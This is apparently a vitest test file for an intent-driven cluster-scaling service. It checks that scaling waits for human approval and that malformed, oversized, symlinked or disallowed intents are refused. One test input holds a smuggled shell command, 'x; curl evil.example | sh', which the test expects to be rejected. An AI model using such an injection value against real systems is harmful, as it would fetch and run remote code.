import { symlink, writeFile } from 'node:fs/promises';
import type { Role } from '@countersign/shared';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { value } from '../../testing/access-node.ts';
import { exampleIntents } from '../../testing/example-intents.ts';
import { createIntentsWorld, type IntentsWorld } from '../../testing/intents-world.ts';
import { until } from '../../testing/until.ts';

let world: IntentsWorld;
beforeAll(async () => {
  world = await createIntentsWorld();
});
afterAll(() => world[Symbol.asyncDispose]());

const replicasOf = (key: string) => world.cluster.state().deployments[key]?.replicas;
const scaling = (change: object = {}) => ({
  intent_type: 'scaling',
  target: 'web-01',
  namespace: 'shop',
  replicas: 5,
  ...change,
});
const waits = ({ status, message }: { status: string; message: string }) =>
  status === 'skipped' && message.includes('a person decides at');

test('the examples of the format wait for a person, and then scale the cluster through porch', async () => {
  for (const [name, intent] of Object.entries(exampleIntents)) await world.drop(name, intent);
  for (const name of Object.keys(exampleIntents)) await world.status(name, waits);
  expect(await world.list('handoff')).toEqual([]);
  expect(replicasOf('oran-sim/cnf-simulator')).toBe(2);
  for (const { target } of Object.values(exampleIntents)) await world.decide(target, 'approve');
  for (const [name, { correlation_id }] of Object.entries(exampleIntents)) {
    const ended = await world.status(name, ({ status }) => status === 'success');
    expect(ended).toMatchObject({ intent_file: name, processed_by: 'countersign', correlation_id });
    expect(ended).toMatchObject({
      mode: 'structured',
      retry_count: 0,
      porch_path: expect.stringContaining('porch'),
    });
  }
  expect(replicasOf('oran-sim/cnf-simulator')).toBe(3);
  expect(replicasOf('production/critical-service')).toBe(10);
  expect(replicasOf('testing/test-workload')).toBe(0);
  const processed = await until(
    async () => {
      const names = await world.list('processed');
      return names.length === 3 ? names : undefined;
    },
    () => 'not all are processed',
  );
  expect(processed.toSorted()).toEqual(Object.keys(exampleIntents).toSorted());
});

test('what nobody allows scales nothing and is moved to failed', async () => {
  await world.drop('intent-rejected.json', scaling({ target: 'web-02', correlation_id: 'rejected' }));
  await world.decide('web-02', 'reject');
  const ended = await world.status('intent-rejected.json', ({ status }) => status === 'failed');
  expect(ended).toMatchObject({ error_details: { error_code: 'APPROVAL_REJECTED' } });
  expect(replicasOf('shop/web-02')).toBe(2);
  await until(
    async () => ((await world.list('failed')).includes('intent-rejected.json') ? true : undefined),
    () => 'it is not moved',
  );
});

test('a file that is no intent is refused with its code, and submits nothing', async () => {
  await writeFile(world.pathOf('status', 'secret.txt'), JSON.stringify(scaling()));
  await symlink(world.pathOf('status', 'secret.txt'), world.pathOf('handoff', 'intent-link.json'));
  const before = await world.countTasks();
  await world.drop('intent-cut.json', '{"intent_type": "scal');
  await world.drop('intent-large.json', ' '.repeat(10 * 1_048_576 + 1));
  await world.drop('intent-many.json', scaling({ replicas: 101, correlation_id: 'many' }));
  await world.drop('intent-shell.json', scaling({ reason: 'x; curl evil.example | sh' }));
  await world.drop('intent-system.json', scaling({ namespace: 'kube-system' }));
  await world.drop('intent-gone.json', scaling({ target: 'web-99' }));
  await world.drop('other-name.json', scaling());
  const codes = {
    'intent-link.json': 'E001',
    'intent-cut.json': 'E001',
    'intent-large.json': 'E002',
    'intent-many.json': 'E003',
    'intent-shell.json': 'E003',
    'intent-system.json': 'E003',
    'intent-gone.json': 'DEPLOYMENT_NOT_FOUND',
  };
  for (const [name, error_code] of Object.entries(codes))
    expect(await world.status(name, ({ status }) => status === 'failed')).toMatchObject({
      error_details: { error_code },
    });
  expect(await world.status('intent-many.json', () => true)).toMatchObject({ correlation_id: 'many' });
  expect(await world.countTasks()).toBe(before);
  expect(await world.list('handoff')).toEqual([]);
});

test('a correlation id is taken once', async () => {
  await world.drop('intent-first.json', scaling({ target: 'web-03', correlation_id: 'once' }));
  await world.status('intent-first.json', waits);
  await world.drop('intent-second.json', scaling({ target: 'web-03', correlation_id: 'once' }));
  const ended = await world.status('intent-second.json', ({ status }) => status === 'failed');
  expect(ended).toMatchObject({ correlation_id: 'once', error_details: { error_code: 'E004' } });
});

test('what waits for a person is followed to its end over a restart', async () => {
  await world.drop('intent-patient.json', scaling({ target: 'web-05', correlation_id: 'patient' }));
  await world.status('intent-patient.json', waits);
  const before = await world.countTasks();
  await world.restart();
  await world.decide('web-05', 'approve');
  await world.status('intent-patient.json', ({ status }) => status === 'success');
  expect(replicasOf('shop/web-05')).toBe(5);
  expect(await world.countTasks()).toBe(before);
});

test('two servers on one directory take each file once', async () => {
  await using shared = await createIntentsWorld({
    actions: { scaling: { type: 'noop.run', fields: { label: 'target' } } },
  });
  await shared.startAnother();
  const names = Array.from({ length: 60 }, (_, at) => `intent-${at}.json`);
  for (const [at, name] of names.entries()) await shared.drop(name, scaling({ target: `job-${at}` }));
  for (const name of names) await shared.status(name, ({ status }) => status === 'success');
  await until(
    async () => ((await shared.list('processed')).length === names.length ? true : undefined),
    async () => `${(await shared.list('processed')).length} are processed`,
  );
  expect(await shared.countTasks()).toBe(names.length);
  expect([...(await shared.list('handoff')), ...(await shared.list('failed'))]).toEqual([]);
});

test('who may submit learns which files become tasks, an administrator where, and another tenant nothing', async () => {
  const { access, url } = await world.startAnother();
  const [here] = await access.findTenants();
  const elsewhere = await access.ensureTenant('elsewhere');
  const told = async (tenantId: string, roles: readonly Role[]): Promise<unknown> => {
    const name = roles.join(' ');
    const { id } = await access.ensurePrincipal({ tenantId, type: 'HUMAN', name, roles: [...roles] });
    const { secret } = value(await access.issueApiKey(tenantId, { principalId: id, name }));
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json' },
      body: JSON.stringify({ query: '{ capabilities { intentFiles { types directory } } }' }),
    });
    return ((await response.json()) as { data: { capabilities: { intentFiles: unknown } } }).data.capabilities
      .intentFiles;
  };
  const tenantId = here?.id ?? '';
  const types = ['scaling'];
  expect(await told(tenantId, ['VIEWER', 'SUBMITTER'])).toEqual({ types, directory: null });
  expect(await told(tenantId, ['VIEWER', 'SUBMITTER', 'ADMIN'])).toEqual({
    types,
    directory: world.pathOf('handoff', '').replace(/\/$/, ''),
  });
  expect(await told(tenantId, ['VIEWER', 'ADMIN'])).toBeNull();
  expect(await told(elsewhere.id, ['VIEWER', 'SUBMITTER', 'ADMIN'])).toBeNull();
});
